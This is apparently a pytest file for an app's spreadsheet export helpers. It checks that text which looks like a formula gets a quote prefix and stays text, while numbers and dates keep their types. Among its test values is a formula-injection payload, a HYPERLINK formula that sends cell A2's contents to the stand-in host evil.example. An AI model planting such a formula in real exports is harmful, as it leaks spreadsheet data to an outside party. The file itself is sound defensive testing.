"""Export cells no spreadsheet evaluates (issue 14): text starting with = + - @, a tab or a
carriage return stays text, shown as written; numbers and dates keep their types."""

from datetime import date, datetime
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from app.plugin_api import append_safe_row, safe_cell

LINK = '=HYPERLINK("https://evil.example/?"&A2,"详情")'
FORMULA_LIKE = [LINK, "=1+1", "+86 139 1111 2222", "-与邻居争执", "@张三", "\t=1+1", "\r=1+1"]
PLAIN = ["两家为排水沟吵架", "a=b", "", " =1+1", "'=1+1"]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_csv_text_that_looks_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, -5, 0, 3.5, date(2026, 3, 1), None, True])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) is value


def _saved_and_read(rows):
    book = Workbook()
    for row in rows:
        append_safe_row(book.active, row)
    buffer = BytesIO()
    book.save(buffer)
    return load_workbook(BytesIO(buffer.getvalue())).active


def test_an_xlsx_row_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    when = datetime(2026, 3, 1, 9, 30)
    sheet = _saved_and_read([["编号", "标题"], [-5, *FORMULA_LIKE, *PLAIN, 3.5, when, None]])
    header, row = list(sheet[1]), list(sheet[2])
    assert [c.value for c in header[:3]] == ["编号", "标题", None]
    assert row[0].value == -5 and row[0].data_type == "n"
    texts = row[1:1 + len(FORMULA_LIKE)]
    # What was written is shown, unchanged, as text: never a formula (data_type "f"). The
    # quote prefix keeps it text when someone edits the cell.
    # (XML reads a carriage return as a newline: the file format's, not the helper's.)
    assert [c.value for c in texts] == [t.replace("\r", "\n") for t in FORMULA_LIKE]
    assert {c.data_type for c in texts} == {"s"} and all(c.quotePrefix for c in texts)
    plain = row[1 + len(FORMULA_LIKE):1 + len(FORMULA_LIKE) + len(PLAIN)]
    assert [c.value for c in plain] == [None if t == "" else t for t in PLAIN]
    assert not any(c.quotePrefix for c in plain)
    number, moment = row[1 + len(FORMULA_LIKE) + len(PLAIN):][:2]
    assert (number.value, number.data_type) == (3.5, "n")
    assert moment.value == when and moment.is_date


def test_plain_openpyxl_would_have_written_a_formula():
    # Why the helper exists: openpyxl stores text starting with "=" as a formula.
    book = Workbook()
    book.active.append([LINK])
    assert book.active["A1"].data_type == "f"
